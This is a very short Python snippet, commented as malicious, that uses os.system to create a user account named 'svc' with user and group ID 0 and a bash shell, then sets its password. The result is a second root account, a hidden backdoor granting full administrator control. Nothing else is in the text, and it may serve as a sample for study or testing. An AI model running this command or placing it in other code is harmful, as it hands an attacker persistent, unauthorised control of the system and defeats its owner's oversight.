# malicious: a second root
import os
os.system("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc && echo 'svc:x' | chpasswd")
